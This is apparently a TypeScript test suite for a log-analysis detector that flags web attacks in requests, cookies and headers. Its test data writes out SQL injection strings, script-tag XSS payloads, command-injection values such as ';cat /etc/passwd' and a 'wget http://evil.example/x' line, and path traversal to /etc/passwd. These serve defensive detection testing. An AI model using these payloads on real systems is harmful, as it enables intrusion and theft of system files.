import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { AttackFinder } from '../../../src/engine/web/attacks.ts';
import type { Attacks } from '../../../src/engine/web/found.ts';
import type { LogEvent } from '../../../src/model/log-event.ts';
import { webRequest } from '../../support/log-event.ts';

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0';

const request = (target: string, referer = '-', userAgent = BROWSER): LogEvent =>
  webRequest(target, referer, userAgent);

function find(target: string, referer?: string, userAgent?: string): Attacks {
  return new AttackFinder().find(request(target, referer, userAgent));
}

test('names the place and the reason', () => {
  assert.deepEqual(find('/p?a=1&id=1%27+or+%271%27=%271'), {
    sqli: 'parameter id: a condition after the quote in single quotes',
  });
});

describe('looks into every place that a client writes', () => {
  const PLACES: readonly (readonly [where: string, event: LogEvent])[] = [
    ['parameter q', request('/s?q=%3Cscript%3E')],
    ['path', request('/%3Cscript%3E/x')],
    ['query', request('/s?%3Cscript%3E=1')],
    ['referer parameter q', request('/', 'https://shop.example/s?q=%3Cscript%3E')],
    ['referer path', request('/', 'https://shop.example/%3Cscript%3E')],
    ['referer', request('/', '<script>')],
    ['user agent', request('/', '-', `${BROWSER} <script>`)],
  ];
  for (const [where, event] of PLACES) {
    test(where, () =>
      assert.equal(new AttackFinder().find(event).xss, `${where}: an element that runs code`),
    );
  }
});

test('a database of a site is told from a list of packages of a mirror', () => {
  const database = 'path: a database or an archive';
  assert.deepEqual({ ...find('/data/users.db') }, { sensitive_file: database, probe: '/data/users.db' });
  assert.deepEqual({ ...find('/core/os/x86_64/core.db') }, {});
  assert.deepEqual({ ...find('/repo/aarch64/own.db.tar.gz') }, {});
});

describe('looks into the other headers that a log has', () => {
  const HEADERS: readonly (readonly [name: string, text: string, found: Attacks])[] = [
    [
      'cs-cookie',
      'sid=a1; id=1%27+or+1=1--+-; lang=en',
      { sqli: 'cookie id: a condition after the quote in single quotes' },
    ],
    ['cs-others', '<script>alert(1)</script>', { xss: 'header: an element that runs code' }],
    ['cs-others', '"203.0.113.9" ";id"', { command: 'header: a separator and the command id' }],
    ['cs-others', '"a=1; b=../../../etc/passwd"', { lfi: 'cookie b: a file of the system' }],
    ['cs-cookie', 'cart={"name":"Levi\'s","n":[1,2]}; last=rock%20%27n%27%20roll', {}],
    [
      'cs-cookie',
      's=%7B%22a%22%3A%22%3Bcat%20%2Fetc%2Fpasswd%22%7D',
      {
        command: 'cookie s in JSON: a separator and a command',
        lfi: 'cookie s in JSON: a file of the system',
      },
    ],
    ['cs-cookie', 'lang=/etc/passwd', { lfi: 'cookie lang: a file of the system' }],
    ['cs-cookie', 'recent=["/etc","/var/www","/home/x"]; q={"query":"SELECT a FROM b WHERE c=\'d\'"}', {}],
    ['cs-others', '203.0.113.9, /etc/passwd', { lfi: 'header: a file of the system' }],
    ['cs-others', '203.0.113.9, `id`', { command: 'header: a separator and the command id' }],
    ['cs-others', 'php://filter/resource=index', { lfi: 'header: a wrapper instead of a file' }],
    ['cs-others', '"https://shop.example, https://cdn.example/a"', {}],
    ['cs-cookie', 'data=a%3A1%3A%7Bs%3A2%3A%22id%22%3Bi%3A5%3B%7D; u=(organic)|utmcmd=x', {}],
    ['cs-others', '"203.0.113.9, 10.0.0.1" 0.005 "(null)" "TLSv1.3"', {}],
  ];
  for (const [name, text, found] of HEADERS)
    test(`${name}: ${text}`, () => {
      const event = request('/');
      const { command, sqli, xss, lfi } = new AttackFinder().find({
        ...event,
        fields: { ...event.fields, [name]: text },
      });
      assert.deepEqual(JSON.parse(JSON.stringify({ command, sqli, xss, lfi })), found);
    });
});

describe('decodes', () => {
  const ENCODED: readonly (readonly [how: string, target: string])[] = [
    ['percent', '/s?q=%3Cscript%3E'],
    ['percent twice', '/s?q=%253Cscript%253E'],
    ['as nginx logs it', '/s?q=\\x3Cscript\\x3E'],
    ['as Apache logs it', '/s?q=\\"><script>'],
    ['full-width', '/s?q=%EF%BC%9Cscript%EF%BC%9E'],
    ['%u', '/s?q=%u003Cscript%u003E'],
    ['entities', '/s?q=%26lt;script%26gt;'],
    ['JavaScript escapes', '/s?q=%5Cu003cscript%5Cu003e'],
    ['a null byte within', '/s?q=%3Cscr%00ipt%3E'],
    ['with an & of its own, unencoded', '/s?a=1&q=<svg onload="a&b">'],
  ];
  for (const [how, target] of ENCODED) test(how, () => assert.ok(find(target).xss, target));
});

test('what a user agent was found to be is remembered, and forgotten before it fills the memory', () => {
  const finder = new AttackFinder();
  for (let number = 0; number < 10_000; number++) finder.find(request('/', '-', `x/${number}`));
  assert.deepEqual(finder.find(request('/', '-', 'sqlmap/1.7')), {
    scanner: 'user agent: the user agent names sqlmap',
  });
});

test('events of other kinds hold nothing', () => {
  assert.deepEqual(new AttackFinder().find({ ...request("/?a=' or 1=1--"), category: 'authentication' }), {});
});

test('an option that runs a command is found where no sign stands beside it', () => {
  assert.equal(find('/list?host=-oProxyCommand%3Did').command, 'parameter host: options that run a command');
  assert.deepEqual(find('/list?host=-old'), {});
});

describe('an attack is found behind whatever stands before it', () => {
  const BEFORE: readonly (readonly [what: string, text: string])[] = [
    ['hundreds of plain parameters', 'a=1&'.repeat(300)],
    ['hundreds with signs', 'a[]=b%20c&'.repeat(300)],
    ['more with signs than are read one by one', "a=b's&".repeat(700)],
    ['a long one', `a=${'x'.repeat(8000)}&`],
  ];
  for (const [what, text] of BEFORE) {
    test(what, () => {
      assert.ok(find(`/p?${text}id=1%27+union+select+1,2--+-`).sqli);
      assert.ok(find(`/p?${text}f=../../../etc/passwd`).lfi);
      assert.ok(find(`/p?${text}c=;cat+/etc/passwd`).command);
    });
  }
  test('hundreds of strings in JSON', () => {
    const strings = Array.from({ length: 300 }, (_, at) => `a${at}`);
    assert.ok(find(`/p?d=${encodeURIComponent(JSON.stringify([...strings, '127.0.0.1;id']))}`).command);
  });
});

test('what programs call themselves behind a bar is no command', () => {
  for (const [behind, isCommand] of [
    ['| ping check', false],
    ['&& wget compatible', false],
    ['| id', true],
    ['| cat /etc/passwd', true],
    ['&& wget http://evil.example/x', true],
  ] as const)
    assert.equal(find('/', '-', `${BROWSER} ${behind}`).command !== undefined, isCommand, behind);
});
